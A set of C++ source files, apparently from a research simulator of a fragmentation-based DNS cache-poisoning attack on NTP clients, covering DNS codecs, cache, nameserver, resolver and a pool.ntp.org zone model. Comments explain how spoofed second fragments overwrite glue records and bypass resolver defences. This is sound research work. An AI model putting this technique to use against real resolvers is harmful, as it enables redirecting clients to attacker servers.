    if (::dnstime::obs::TraceRecorder* dnstime_trace_ =                  \
            ::dnstime::obs::current_trace()) {                           \
      dnstime_trace_->begin((ts_ns), (cat), (name));                     \
    }                                                                    \
  } while (0)

#define DNSTIME_TRACE_END(ts_ns, cat, name)                              \
  do {                                                                   \
    if (::dnstime::obs::TraceRecorder* dnstime_trace_ =                  \
            ::dnstime::obs::current_trace()) {                           \
      dnstime_trace_->end((ts_ns), (cat), (name));                       \
    }                                                                    \
  } while (0)

#define DNSTIME_TRACE_INSTANT(ts_ns, cat, name, ...)                     \
  do {                                                                   \
    if (::dnstime::obs::TraceRecorder* dnstime_trace_ =                  \
            ::dnstime::obs::current_trace()) {                           \
      dnstime_trace_->instant((ts_ns), (cat), (name)__VA_OPT__(, )       \
                                  __VA_ARGS__);                          \
    }                                                                    \
  } while (0)

#else  // !DNSTIME_OBS

#define DNSTIME_TRACE_BEGIN(ts_ns, cat, name) ((void)0)
#define DNSTIME_TRACE_END(ts_ns, cat, name) ((void)0)
#define DNSTIME_TRACE_INSTANT(ts_ns, cat, name, ...) ((void)0)

#endif  // DNSTIME_OBS
