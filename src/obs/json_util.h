// Locale-free JSON formatting helpers shared by the obs writers
// (TraceRecorder and FlightRecorder).  Every function appends into a
// caller-owned string and is a pure function of its arguments, so the
// writers built on them stay byte-deterministic across runs, machines and
// thread counts.
#pragma once

#include <cmath>
#include <cstdio>
#include <string>

#include "common/types.h"

namespace dnstime::obs {

/// Append `s` with JSON string escaping (RFC 8259: quote, backslash and
/// control characters).
inline void append_escaped(std::string& out, const char* s) {
  for (; *s != '\0'; ++s) {
    const char c = *s;
    const auto u = static_cast<unsigned char>(c);
    if (c == '"' || c == '\\') {
      out += '\\';
      out += c;
    } else if (u < 0x20) {
      char buf[8];
      std::snprintf(buf, sizeof buf, "\\u%04x", u);
      out += buf;
    } else {
      out += c;
    }
  }
}

/// ts in microseconds with nanosecond decimals, locale-free: Chrome's
/// trace_event timestamps are doubles in microseconds, and emitting the
/// exact ns remainder keeps the writer byte-deterministic.
inline void append_ts(std::string& out, i64 ts_ns) {
  const bool neg = ts_ns < 0;
  u64 abs_ns = neg ? static_cast<u64>(-(ts_ns + 1)) + 1
                   : static_cast<u64>(ts_ns);
  char buf[48];
  std::snprintf(buf, sizeof buf, "%s%llu.%03llu", neg ? "-" : "",
                static_cast<unsigned long long>(abs_ns / 1000),
                static_cast<unsigned long long>(abs_ns % 1000));
  out += buf;
}

/// Shortest %.6g rendering, non-finite as null (nan/inf are not JSON).
/// Matches campaign::json_number so a flight-recorder dump and the report
/// format the same double the same way.
inline void append_double(std::string& out, double v) {
  if (!std::isfinite(v)) {
    out += "null";
    return;
  }
  char buf[40];
  std::snprintf(buf, sizeof buf, "%.6g", v);
  out += buf;
}

}  // namespace dnstime::obs
