#include "dns/cache.h"

#include <algorithm>

namespace dnstime::dns {

void DnsCache::insert(const DnsName& name, RrType type,
                      std::vector<ResourceRecord> rrset, sim::Time now,
                      u32 max_ttl, Origin origin) {
  if (rrset.empty()) return;
  u32 ttl = max_ttl;
  for (const auto& rr : rrset) ttl = std::min(ttl, rr.ttl);
  Entry entry{std::move(rrset),
              now + sim::Duration::seconds(static_cast<i64>(ttl)), origin};
  entries_[Key{name.to_string(), type}] = std::move(entry);
}

std::optional<std::vector<ResourceRecord>> DnsCache::lookup(
    const DnsName& name, RrType type, sim::Time now) const {
  auto it = entries_.find(Key{name.to_string(), type});
  if (it == entries_.end() || it->second.expires <= now) return std::nullopt;
  auto remaining =
      static_cast<u32>((it->second.expires - now).to_seconds());
  std::vector<ResourceRecord> out = it->second.rrset;
  for (auto& rr : out) rr.ttl = remaining;
  return out;
}

std::optional<u32> DnsCache::remaining_ttl(const DnsName& name, RrType type,
                                           sim::Time now) const {
  auto it = entries_.find(Key{name.to_string(), type});
  if (it == entries_.end() || it->second.expires <= now) return std::nullopt;
  return static_cast<u32>((it->second.expires - now).to_seconds());
}

Origin DnsCache::origin(const DnsName& name, RrType type,
                        sim::Time now) const {
  auto it = entries_.find(Key{name.to_string(), type});
  if (it == entries_.end() || it->second.expires <= now) return {};
  return it->second.origin;
}

void DnsCache::evict(const DnsName& name, RrType type) {
  entries_.erase(Key{name.to_string(), type});
}

}  // namespace dnstime::dns
