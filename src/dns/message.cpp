#include "dns/message.h"

namespace dnstime::dns {

namespace {

void write_record(ByteWriter& w, NameCompressor& comp,
                  const ResourceRecord& rr) {
  comp.write_name(w, rr.name);
  w.write_u16(static_cast<u16>(rr.type));
  w.write_u16(1);  // class IN
  w.write_u32(rr.ttl);
  std::size_t len_at = w.size();
  w.write_u16(0);  // rdlength placeholder
  std::size_t rdata_start = w.size();
  switch (rr.type) {
    case RrType::kA:
      w.write_u32(rr.a.value());
      break;
    case RrType::kNs:
    case RrType::kCname:
      // NOTE: rdata names are written uncompressed so an rdata span can be
      // rewritten in place without disturbing other records' pointers.
      {
        for (const auto& label : rr.target.labels()) {
          w.write_u8(static_cast<u8>(label.size()));
          w.write_string(label);
        }
        w.write_u8(0);
      }
      break;
    case RrType::kTxt: {
      // character-strings of <=255 bytes each
      std::size_t pos = 0;
      while (pos < rr.txt.size()) {
        std::size_t n = std::min<std::size_t>(255, rr.txt.size() - pos);
        w.write_u8(static_cast<u8>(n));
        w.write_string(rr.txt.substr(pos, n));
        pos += n;
      }
      if (rr.txt.empty()) w.write_u8(0);
      break;
    }
    case RrType::kRrsig:
      w.write_u16(static_cast<u16>(rr.covered));
      w.write_u64(rr.signature);
      break;
  }
  w.patch_u16(len_at, static_cast<u16>(w.size() - rdata_start));
}

ResourceRecord read_record(ByteReader& r, Section section, std::size_t index,
                           std::vector<RecordSpan>* spans) {
  ResourceRecord rr;
  rr.name = read_name(r);
  rr.type = static_cast<RrType>(r.read_u16());
  u16 klass = r.read_u16();
  if (klass != 1) throw DecodeError("unsupported class");
  std::size_t ttl_offset = r.pos();
  rr.ttl = r.read_u32();
  u16 rdlength = r.read_u16();
  std::size_t rdata_offset = r.pos();
  if (rdlength > r.remaining()) throw DecodeError("rdata overrun");
  switch (rr.type) {
    case RrType::kA:
      if (rdlength != 4) throw DecodeError("bad A rdlength");
      rr.a = Ipv4Addr{r.read_u32()};
      break;
    case RrType::kNs:
    case RrType::kCname:
      rr.target = read_name(r);
      break;
    case RrType::kTxt: {
      std::size_t end = rdata_offset + rdlength;
      while (r.pos() < end) {
        u8 n = r.read_u8();
        Bytes chunk = r.read_bytes(n);
        rr.txt.append(chunk.begin(), chunk.end());
      }
      break;
    }
    case RrType::kRrsig:
      rr.covered = static_cast<RrType>(r.read_u16());
      rr.signature = r.read_u64();
      break;
    default:
      r.skip(rdlength);
      break;
  }
  if (r.pos() != rdata_offset + rdlength) {
    r.seek(rdata_offset + rdlength);
  }
  if (spans) {
    spans->push_back(RecordSpan{section, index, rr.type, ttl_offset,
                                rdata_offset, rdlength});
  }
  return rr;
}

}  // namespace

namespace {

void write_dns(ByteWriter& w, const DnsMessage& msg) {
  NameCompressor comp;
  w.write_u16(msg.id);
  u16 flags = 0;
  if (msg.qr) flags |= 0x8000;
  if (msg.aa) flags |= 0x0400;
  if (msg.tc) flags |= 0x0200;
  if (msg.rd) flags |= 0x0100;
  if (msg.ra) flags |= 0x0080;
  if (msg.ad) flags |= 0x0020;
  flags |= static_cast<u16>(msg.rcode) & 0x000F;
  w.write_u16(flags);
  w.write_u16(static_cast<u16>(msg.questions.size()));
  w.write_u16(static_cast<u16>(msg.answers.size()));
  w.write_u16(static_cast<u16>(msg.authority.size()));
  w.write_u16(static_cast<u16>(msg.additional.size()));
  for (const auto& q : msg.questions) {
    comp.write_name(w, q.name);
    w.write_u16(static_cast<u16>(q.type));
    w.write_u16(1);  // class IN
  }
  for (const auto& rr : msg.answers) write_record(w, comp, rr);
  for (const auto& rr : msg.authority) write_record(w, comp, rr);
  for (const auto& rr : msg.additional) write_record(w, comp, rr);
}

}  // namespace

Bytes encode_dns(const DnsMessage& msg) {
  ByteWriter w;
  write_dns(w, msg);
  return std::move(w).take();
}

PacketBuf encode_dns_buf(const DnsMessage& msg) {
  ByteWriter w;
  write_dns(w, msg);
  return std::move(w).take_buf();
}

DnsMessage decode_dns(std::span<const u8> data,
                      std::vector<RecordSpan>* spans) {
  ByteReader r(data);
  DnsMessage msg;
  msg.id = r.read_u16();
  u16 flags = r.read_u16();
  msg.qr = flags & 0x8000;
  msg.aa = flags & 0x0400;
  msg.tc = flags & 0x0200;
  msg.rd = flags & 0x0100;
  msg.ra = flags & 0x0080;
  msg.ad = flags & 0x0020;
  msg.rcode = static_cast<Rcode>(flags & 0x000F);
  u16 qd = r.read_u16();
  u16 an = r.read_u16();
  u16 ns = r.read_u16();
  u16 ar = r.read_u16();
  for (u16 i = 0; i < qd; ++i) {
    DnsQuestion q;
    q.name = read_name(r);
    q.type = static_cast<RrType>(r.read_u16());
    if (r.read_u16() != 1) throw DecodeError("unsupported class");
    msg.questions.push_back(std::move(q));
  }
  for (u16 i = 0; i < an; ++i) {
    msg.answers.push_back(read_record(r, Section::kAnswer, i, spans));
  }
  for (u16 i = 0; i < ns; ++i) {
    msg.authority.push_back(read_record(r, Section::kAuthority, i, spans));
  }
  for (u16 i = 0; i < ar; ++i) {
    msg.additional.push_back(read_record(r, Section::kAdditional, i, spans));
  }
  return msg;
}

u64 sign_rrset(u64 zone_secret, const DnsName& owner, RrType type,
               const std::vector<ResourceRecord>& rrset) {
  // FNV-1a over the zone secret, owner, type and each record's rdata.
  u64 h = 0xcbf29ce484222325ull;
  auto mix = [&h](u64 v) {
    for (int i = 0; i < 8; ++i) {
      h ^= (v >> (i * 8)) & 0xFF;
      h *= 0x100000001b3ull;
    }
  };
  auto mix_str = [&h](const std::string& s) {
    for (unsigned char c : s) {
      h ^= c;
      h *= 0x100000001b3ull;
    }
  };
  mix(zone_secret);
  mix_str(owner.to_string());
  mix(static_cast<u64>(type));
  for (const auto& rr : rrset) {
    // TTLs are deliberately not covered (mirrors DNSSEC, which signs the
    // original TTL separately); rdata is what integrity protects.
    mix(rr.a.value());
    mix_str(rr.target.to_string());
    mix_str(rr.txt);
  }
  return h;
}

}  // namespace dnstime::dns
