#include "dns/name.h"

#include <algorithm>
#include <cctype>

namespace dnstime::dns {

namespace {
std::string lower(std::string s) {
  std::transform(s.begin(), s.end(), s.begin(),
                 [](unsigned char c) { return static_cast<char>(std::tolower(c)); });
  return s;
}
}  // namespace

DnsName DnsName::from_string(const std::string& s) {
  std::vector<std::string> labels;
  std::string cur;
  for (char c : s) {
    if (c == '.') {
      if (!cur.empty()) labels.push_back(lower(cur));
      cur.clear();
    } else {
      cur += c;
    }
  }
  if (!cur.empty()) labels.push_back(lower(cur));
  return DnsName{std::move(labels)};
}

std::string DnsName::to_string() const {
  if (labels_.empty()) return ".";
  std::string out;
  for (const auto& l : labels_) {
    if (!out.empty()) out += '.';
    out += l;
  }
  return out;
}

bool DnsName::is_subdomain_of(const DnsName& suffix) const {
  if (suffix.labels_.size() > labels_.size()) return false;
  return std::equal(suffix.labels_.rbegin(), suffix.labels_.rend(),
                    labels_.rbegin());
}

DnsName DnsName::prepend(const std::string& label) const {
  std::vector<std::string> labels;
  labels.reserve(labels_.size() + 1);
  labels.push_back(lower(label));
  labels.insert(labels.end(), labels_.begin(), labels_.end());
  return DnsName{std::move(labels)};
}

void NameCompressor::write_name(ByteWriter& w, const DnsName& name) {
  const auto& labels = name.labels();
  for (std::size_t i = 0; i < labels.size(); ++i) {
    // Wire form of the suffix starting at label i: length-prefixed labels.
    // The key must be the wire form, not a dotted string — labels may
    // contain literal '.' bytes (any byte is legal on the wire), and a
    // dotted key would alias ["a","b"] with the single label ["a.b"],
    // compressing one name into a pointer at the other (fuzz-found:
    // fuzz/corpus/dns_message/crash-compression-dotted-label).
    std::string suffix;
    for (std::size_t j = i; j < labels.size(); ++j) {
      suffix += static_cast<char>(labels[j].size());
      suffix += labels[j];
    }
    for (const auto& k : known_) {
      if (k.suffix == suffix) {
        w.write_u16(static_cast<u16>(0xC000 | k.offset));
        return;
      }
    }
    // Offsets beyond 14 bits cannot be pointer targets; still encodable
    // inline, just not compressible.
    if (w.size() <= 0x3FFF) {
      known_.push_back(Known{suffix, static_cast<u16>(w.size())});
    }
    if (labels[i].size() > 63) throw DecodeError("label too long");
    w.write_u8(static_cast<u8>(labels[i].size()));
    w.write_string(labels[i]);
  }
  w.write_u8(0);
}

DnsName read_name(ByteReader& r) {
  std::vector<std::string> labels;
  std::size_t jumps = 0;
  std::optional<std::size_t> resume;  // position after the first pointer
  for (;;) {
    u8 len = r.read_u8();
    if ((len & 0xC0) == 0xC0) {
      u16 ptr = static_cast<u16>((u16{static_cast<u16>(len & 0x3F)} << 8) |
                                 r.read_u8());
      if (!resume) resume = r.pos();
      if (++jumps > 32) throw DecodeError("compression loop");
      r.seek(ptr);
      continue;
    }
    if (len == 0) break;
    if (len > 63) throw DecodeError("bad label length");
    Bytes raw = r.read_bytes(len);
    labels.emplace_back(raw.begin(), raw.end());
    if (labels.size() > 128) throw DecodeError("name too long");
  }
  if (resume) r.seek(*resume);
  return DnsName{std::move(labels)};
}

}  // namespace dnstime::dns
