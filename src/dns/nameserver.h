// Authoritative DNS nameserver.
//
// Hosts one or more ZoneAuthority instances and answers UDP queries on
// port 53. Zone behaviour differences that matter to the paper — DNSSEC
// signing (only time.cloudflare.com among NTP domains), forced-fragment
// responses (the §VIII-B1 study nameserver), pool rotation — live in the
// ZoneAuthority implementations.
#pragma once

#include <functional>
#include <memory>
#include <vector>

#include "dns/message.h"
#include "net/netstack.h"

namespace dnstime::dns {

/// One authoritative zone. `handle` fills the response sections for a
/// question under this apex and returns false for NXDOMAIN.
class ZoneAuthority {
 public:
  virtual ~ZoneAuthority() = default;
  [[nodiscard]] virtual const DnsName& apex() const = 0;
  virtual bool handle(const DnsQuestion& q, DnsMessage& response) = 0;
};

/// Static RRset zone with optional structural DNSSEC signing.
class StaticZone : public ZoneAuthority {
 public:
  StaticZone(DnsName apex, bool dnssec_signed = false, u64 zone_secret = 0)
      : apex_(std::move(apex)),
        signed_(dnssec_signed),
        secret_(zone_secret) {}

  void add(const ResourceRecord& rr) { records_.push_back(rr); }
  void add_rrset(const std::vector<ResourceRecord>& rrset) {
    records_.insert(records_.end(), rrset.begin(), rrset.end());
  }
  void clear() { records_.clear(); }

  [[nodiscard]] const DnsName& apex() const override { return apex_; }
  [[nodiscard]] bool is_signed() const { return signed_; }
  [[nodiscard]] u64 secret() const { return secret_; }

  bool handle(const DnsQuestion& q, DnsMessage& response) override;

 private:
  DnsName apex_;
  bool signed_;
  u64 secret_;
  std::vector<ResourceRecord> records_;
};

struct NameserverConfig {
  /// If nonzero, always answer with fragments of this MTU (the
  /// purpose-built study nameserver; normal servers leave it 0 and
  /// fragment only per path MTU / PMTUD).
  u16 force_fragment_mtu = 0;
  /// Observation hook: invoked per received query with the querying
  /// address and the question name. Measurement nameservers use this to
  /// attribute token-domain lookups to resolvers (§VIII-B3).
  std::function<void(Ipv4Addr from, const DnsName& qname)> query_log;
};

class Nameserver {
 public:
  using Config = NameserverConfig;

  explicit Nameserver(net::NetStack& stack, Config config = Config{});
  ~Nameserver();

  Nameserver(const Nameserver&) = delete;
  Nameserver& operator=(const Nameserver&) = delete;

  void add_zone(std::shared_ptr<ZoneAuthority> zone) {
    zones_.push_back(std::move(zone));
  }

  [[nodiscard]] u64 queries_received() const { return queries_; }
  [[nodiscard]] net::NetStack& stack() { return stack_; }

 private:
  void on_query(const net::UdpEndpoint& from, BufView payload);

  net::NetStack& stack_;
  Config config_;
  std::vector<std::shared_ptr<ZoneAuthority>> zones_;
  u64 queries_ = 0;
};

/// Append an RRset plus (when `zone_secret` != 0) its covering RRSIG to a
/// message section. Shared by StaticZone and PoolZone.
void emit_rrset(std::vector<ResourceRecord>& section,
                const std::vector<ResourceRecord>& rrset, bool dnssec_signed,
                u64 zone_secret);

}  // namespace dnstime::dns
