#include "dns/nameserver.h"

#include <map>

#include "common/log.h"

namespace dnstime::dns {

void emit_rrset(std::vector<ResourceRecord>& section,
                const std::vector<ResourceRecord>& rrset, bool dnssec_signed,
                u64 zone_secret) {
  if (rrset.empty()) return;
  section.insert(section.end(), rrset.begin(), rrset.end());
  if (dnssec_signed) {
    ResourceRecord sig;
    sig.name = rrset.front().name;
    sig.type = RrType::kRrsig;
    sig.ttl = rrset.front().ttl;
    sig.covered = rrset.front().type;
    sig.signature =
        sign_rrset(zone_secret, rrset.front().name, rrset.front().type, rrset);
    section.push_back(std::move(sig));
  }
}

bool StaticZone::handle(const DnsQuestion& q, DnsMessage& response) {
  std::vector<ResourceRecord> match;
  bool name_exists = false;
  for (const auto& rr : records_) {
    if (rr.name == q.name) {
      name_exists = true;
      if (rr.type == q.type) match.push_back(rr);
    }
  }
  if (!match.empty()) {
    emit_rrset(response.answers, match, signed_, secret_);
    return true;
  }
  return name_exists;  // empty NOERROR vs NXDOMAIN
}

Nameserver::Nameserver(net::NetStack& stack, Config config)
    : stack_(stack), config_(config) {
  stack_.bind_udp(kDnsPort, [this](const net::UdpEndpoint& from, u16,
                                   BufView payload) {
    on_query(from, payload);
  });
}

Nameserver::~Nameserver() { stack_.unbind_udp(kDnsPort); }

void Nameserver::on_query(const net::UdpEndpoint& from,
                          BufView payload) {
  DnsMessage query;
  try {
    query = decode_dns(payload);
  } catch (const DecodeError&) {
    return;
  }
  if (query.qr || query.questions.size() != 1) return;
  queries_++;
  if (config_.query_log) {
    config_.query_log(from.addr, query.questions.front().name);
  }

  DnsMessage response;
  response.id = query.id;
  response.qr = true;
  response.aa = true;
  response.rd = query.rd;
  response.questions = query.questions;

  const DnsQuestion& q = query.questions.front();
  ZoneAuthority* best = nullptr;
  for (const auto& zone : zones_) {
    if (q.name.is_subdomain_of(zone->apex())) {
      if (!best || zone->apex().label_count() > best->apex().label_count()) {
        best = zone.get();
      }
    }
  }
  if (!best) {
    response.rcode = Rcode::kRefused;
  } else if (!best->handle(q, response)) {
    response.rcode = Rcode::kNxDomain;
  }

  PacketBuf wire = encode_dns_buf(response);
  if (config_.force_fragment_mtu != 0) {
    stack_.send_udp_fragmented(from.addr, kDnsPort, from.port,
                               std::move(wire), config_.force_fragment_mtu);
  } else {
    stack_.send_udp(from.addr, kDnsPort, from.port, std::move(wire));
  }
}

}  // namespace dnstime::dns
