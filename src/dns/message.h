// DNS message wire codec (RFC 1035) with record-span tracking.
//
// The decoder can report the byte offset and length of every record's TTL
// and rdata fields within the message. The attack's fragment crafter uses
// those spans to find which fields of a predicted response lie wholly
// inside the second fragment and can therefore be rewritten (§III-2/3).
#pragma once

#include <optional>
#include <vector>

#include "dns/records.h"

namespace dnstime::dns {

enum class Section : u8 { kAnswer, kAuthority, kAdditional };

enum class Rcode : u8 {
  kNoError = 0,
  kFormErr = 1,
  kServFail = 2,
  kNxDomain = 3,
  kRefused = 5,
};

struct DnsQuestion {
  DnsName name;
  RrType type = RrType::kA;
  friend bool operator==(const DnsQuestion&, const DnsQuestion&) = default;
};

struct DnsMessage {
  u16 id = 0;
  bool qr = false;  ///< response flag
  bool aa = false;  ///< authoritative answer
  bool tc = false;  ///< truncated
  bool rd = true;   ///< recursion desired
  bool ra = false;  ///< recursion available
  bool ad = false;  ///< authenticated data (set by validating resolvers)
  Rcode rcode = Rcode::kNoError;
  std::vector<DnsQuestion> questions;
  std::vector<ResourceRecord> answers;
  std::vector<ResourceRecord> authority;
  std::vector<ResourceRecord> additional;

  friend bool operator==(const DnsMessage&, const DnsMessage&) = default;

  [[nodiscard]] const std::vector<ResourceRecord>& section(Section s) const {
    switch (s) {
      case Section::kAnswer: return answers;
      case Section::kAuthority: return authority;
      default: return additional;
    }
  }
};

/// Byte location of one record's mutable fields inside the encoded message.
struct RecordSpan {
  Section section;
  std::size_t index;        ///< index within its section
  RrType type;
  std::size_t ttl_offset;   ///< offset of the 4-byte TTL field
  std::size_t rdata_offset;
  std::size_t rdata_length;
};

[[nodiscard]] Bytes encode_dns(const DnsMessage& msg);

/// Encode into a pooled buffer with packet headroom — the payload the
/// resolver/nameserver hot paths hand straight to NetStack::send_udp.
[[nodiscard]] PacketBuf encode_dns_buf(const DnsMessage& msg);

/// Decode a message. If `spans` is non-null it receives one entry per
/// record in answer/authority/additional order.
[[nodiscard]] DnsMessage decode_dns(std::span<const u8> data,
                                    std::vector<RecordSpan>* spans = nullptr);

}  // namespace dnstime::dns
