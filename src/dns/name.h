// DNS domain names: label sequences with RFC 1035 wire encoding including
// message compression pointers.
#pragma once

#include <string>
#include <vector>

#include "common/bytes.h"
#include "common/types.h"

namespace dnstime::dns {

class DnsName {
 public:
  DnsName() = default;
  explicit DnsName(std::vector<std::string> labels)
      : labels_(std::move(labels)) {}

  /// Parse dotted notation ("pool.ntp.org"). Case-insensitive (lowered).
  [[nodiscard]] static DnsName from_string(const std::string& s);

  [[nodiscard]] std::string to_string() const;
  [[nodiscard]] const std::vector<std::string>& labels() const {
    return labels_;
  }
  [[nodiscard]] bool empty() const { return labels_.empty(); }
  [[nodiscard]] std::size_t label_count() const { return labels_.size(); }

  /// True if `this` equals `suffix` or is a subdomain of it — used for
  /// zone-cut matching ("0.pool.ntp.org" is_subdomain_of "pool.ntp.org").
  [[nodiscard]] bool is_subdomain_of(const DnsName& suffix) const;

  /// Prepend a label ("0" + pool.ntp.org -> 0.pool.ntp.org).
  [[nodiscard]] DnsName prepend(const std::string& label) const;

  friend auto operator<=>(const DnsName&, const DnsName&) = default;

 private:
  std::vector<std::string> labels_;
};

/// Encoder-side compression state: maps already-emitted name suffixes to
/// their message offsets. One instance lives per message encode.
class NameCompressor {
 public:
  /// Append `name`'s wire form to `w`, using compression pointers to
  /// earlier occurrences where possible and registering new suffixes.
  void write_name(ByteWriter& w, const DnsName& name);

 private:
  struct Known {
    std::string suffix;  ///< canonical dotted suffix
    u16 offset;
  };
  std::vector<Known> known_;
};

/// Decode a (possibly compressed) name starting at the reader's position.
/// `r` must view the whole message so pointers can be chased; the reader
/// ends up just past the name's in-place bytes.
[[nodiscard]] DnsName read_name(ByteReader& r);

}  // namespace dnstime::dns
