// Recursive DNS resolver and stub-resolver client.
//
// The resolver implements the post-Kaminsky defences the paper's attacker
// must bypass: per-query source-port randomisation and random TXIDs
// ([RFC5452] challenge-response), upstream address matching, bailiwick
// filtering of out-of-zone records, and optional DNSSEC validation. The
// fragmentation attack defeats these *without guessing* — the challenge
// fields arrive in the genuine first fragment.
//
// Delegations (NS + glue) learned from responses are cached and preferred
// over static hints, which is the durable poisoning vector: overwrite the
// glue in one response and every later query for the zone goes to the
// attacker's nameserver.
#pragma once

#include <functional>
#include <unordered_map>

#include "dns/cache.h"
#include "dns/message.h"
#include "net/netstack.h"

namespace dnstime::dns {

class Resolver {
 public:
  struct Config {
    bool validate_dnssec = false;
    /// Trust anchors: zone apex (dotted) -> zone secret. Validation only
    /// applies to zones with an anchor (others are treated as unsigned,
    /// like the real DNS where pool.ntp.org has no DS chain).
    std::unordered_map<std::string, u64> trust_anchors;
    sim::Duration upstream_timeout = sim::Duration::seconds(2);
    int upstream_retries = 1;
    u32 max_cache_ttl = 7 * 86400;
    /// If false, TXIDs and source ports are sequential (pre-Kaminsky
    /// resolver; vulnerable to classic guessing, not needed by our attack).
    bool randomize_challenge = true;
    /// Broken RD handling observed in parts of the open-resolver
    /// population: RD=0 queries are recursed anyway, which defeats the
    /// cache-probing technique's verification step (§VIII-A1).
    bool ignore_rd_bit = false;
    /// If false, queries from outside the resolver's /24 are dropped — a
    /// closed resolver from the scanner's point of view (§VIII-B3).
    bool open_to_world = true;
  };

  Resolver(net::NetStack& stack, Config config);
  ~Resolver();

  Resolver(const Resolver&) = delete;
  Resolver& operator=(const Resolver&) = delete;

  /// Static delegation hint: queries under `apex` go to `addrs` unless a
  /// cached delegation overrides it.
  void add_zone_hint(const DnsName& apex, std::vector<Ipv4Addr> addrs);

  /// Observability: addresses that only an attacker would serve (the
  /// scenario World registers its attacker NS + NTP hosts). A cached answer
  /// carrying one of them bumps the poisoned_served counter — the
  /// "poisoned-entry-served" signal in campaign metrics. Purely diagnostic:
  /// resolution behaviour is unchanged.
  void mark_tainted(std::vector<Ipv4Addr> addrs);

  [[nodiscard]] DnsCache& cache() { return cache_; }
  [[nodiscard]] const DnsCache& cache() const { return cache_; }
  [[nodiscard]] net::NetStack& stack() { return stack_; }

  // Statistics for measurements/tests. Plain members on the query path;
  // ~Resolver folds them into the obs registry under dns.*.
  [[nodiscard]] u64 client_queries() const { return client_queries_; }
  [[nodiscard]] u64 cache_hits() const { return cache_hits_; }
  [[nodiscard]] u64 cache_misses() const { return cache_misses_; }
  [[nodiscard]] u64 upstream_queries() const { return upstream_queries_; }
  [[nodiscard]] u64 validation_failures() const { return validation_failures_; }
  [[nodiscard]] u64 mismatched_responses() const { return mismatched_; }
  [[nodiscard]] u64 poisoned_served() const { return poisoned_served_; }

 private:
  struct Pending {
    DnsQuestion question;
    std::vector<net::UdpEndpoint> clients;
    std::vector<u16> client_ids;
    u16 txid = 0;
    u16 src_port = 0;
    Ipv4Addr upstream;
    int attempts = 0;
    sim::EventHandle timeout;
  };

  void on_client_query(const net::UdpEndpoint& from, BufView payload);
  void answer_from_cache(const net::UdpEndpoint& to, u16 id,
                         const DnsQuestion& q,
                         const std::vector<ResourceRecord>& rrset);
  void respond_empty(const net::UdpEndpoint& to, u16 id, const DnsQuestion& q,
                     Rcode rcode);
  void start_upstream(const DnsQuestion& q, const net::UdpEndpoint& client,
                      u16 client_id);
  void send_upstream(Pending& p);
  void on_upstream_response(u64 pending_key, const net::UdpEndpoint& from,
                            BufView payload);
  void on_upstream_timeout(u64 pending_key);
  void finish(u64 pending_key, const DnsMessage& response,
              const Origin& origin);
  void fail(u64 pending_key, Rcode rcode);

  /// Choose the upstream nameserver address for `name`: cached delegation
  /// first (NS + glue A), then static hints. nullopt => REFUSED.
  [[nodiscard]] std::optional<Ipv4Addr> pick_upstream(const DnsName& name);

  /// Structural DNSSEC validation; true if acceptable.
  [[nodiscard]] bool validate(const DnsMessage& response);

  /// Cache every in-bailiwick RRset from the response.
  /// `origin` is the provenance of the wire payload the response was
  /// decoded from; it is stored with every RRset cached from it.
  void cache_response(const DnsQuestion& q, const DnsMessage& response,
                      const Origin& origin);

  [[nodiscard]] bool is_tainted(Ipv4Addr addr) const;

  net::NetStack& stack_;
  Config config_;
  DnsCache cache_;
  std::vector<Ipv4Addr> tainted_;
  std::vector<std::pair<DnsName, std::vector<Ipv4Addr>>> hints_;
  std::unordered_map<u64, Pending> pending_;
  u64 next_pending_key_ = 1;
  u16 seq_txid_ = 1;  // used when randomize_challenge is off
  u64 client_queries_ = 0;
  u64 cache_hits_ = 0;
  u64 cache_misses_ = 0;
  u64 upstream_queries_ = 0;
  u64 validation_failures_ = 0;
  u64 mismatched_ = 0;
  u64 poisoned_served_ = 0;
};

/// Stub resolver: the client-side DNS API every NTP client model uses.
/// Sends queries with RD=1 to a configured recursive resolver and invokes
/// the callback with the answer A records (empty on failure/timeout).
class StubResolver {
 public:
  using Callback =
      std::function<void(const std::vector<ResourceRecord>& answers)>;

  StubResolver(net::NetStack& stack, Ipv4Addr resolver_addr)
      : stack_(stack), resolver_(resolver_addr) {}

  void set_resolver(Ipv4Addr addr) { resolver_ = addr; }
  [[nodiscard]] Ipv4Addr resolver() const { return resolver_; }

  /// Issue one query. Timeout after `timeout` (one retry) yields an empty
  /// answer set.
  void resolve(const DnsName& name, RrType type, Callback cb,
               sim::Duration timeout = sim::Duration::seconds(3));

  [[nodiscard]] u64 queries_sent() const { return queries_sent_; }

 private:
  net::NetStack& stack_;
  Ipv4Addr resolver_;
  u64 queries_sent_ = 0;
};

}  // namespace dnstime::dns
