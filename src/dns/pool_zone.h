// The pool.ntp.org zone model.
//
// Reproduces the behaviours the paper's attacks and measurements rely on:
//  * every A query returns 4 addresses drawn round-robin from the pool
//    (§VI: "the nameservers of pool.ntp.org normally give 4 IP-addresses
//    per DNS query");
//  * the A TTL is 150 seconds (§IV-A), bounding how often a resolver
//    re-queries;
//  * country zones <cc>.pool.ntp.org and the numbered 0..3.pool.ntp.org
//    subzones serve from the same pool;
//  * responses carry the zone's NS RRset and glue A records — the tail of
//    the response, which is what a spoofed second fragment overwrites;
//  * the zone is NOT DNSSEC signed (§VII-B: none of the 30 pool
//    nameservers supports DNSSEC).
#pragma once

#include <vector>

#include "dns/nameserver.h"

namespace dnstime::dns {

class PoolZone : public ZoneAuthority {
 public:
  struct Config {
    u32 a_ttl = 150;       ///< paper §IV-A: TTL of pool A records
    u32 ns_ttl = 86400;    ///< delegation records are long-lived
    std::size_t addresses_per_response = 4;
    /// Names + glue of the zone's nameservers; the glue A records land at
    /// the very end of the response (the poisoning target).
    std::vector<std::pair<DnsName, Ipv4Addr>> nameservers;
    /// Extra TXT padding appended before the authority section to push the
    /// delegation tail across the attacker-induced fragment boundary
    /// (stands in for the paper's "long sub-domain" inflation trick).
    std::size_t pad_txt_bytes = 0;
  };

  PoolZone(DnsName apex, std::vector<Ipv4Addr> servers, Config config);

  [[nodiscard]] const DnsName& apex() const override { return apex_; }
  bool handle(const DnsQuestion& q, DnsMessage& response) override;

  /// Rotation position (exposed so an attacker that queried the zone can
  /// predict the next response — or tests can pin it).
  [[nodiscard]] std::size_t rotation() const { return rotation_; }
  void set_rotation(std::size_t r) { rotation_ = r % servers_.size(); }

  [[nodiscard]] const std::vector<Ipv4Addr>& servers() const {
    return servers_;
  }

  /// Build the response that the *next* query for `q` will receive,
  /// without advancing rotation. The attack's fragment crafter uses this
  /// through an attacker-issued probe query.
  [[nodiscard]] DnsMessage peek_response(const DnsQuestion& q) const;

 private:
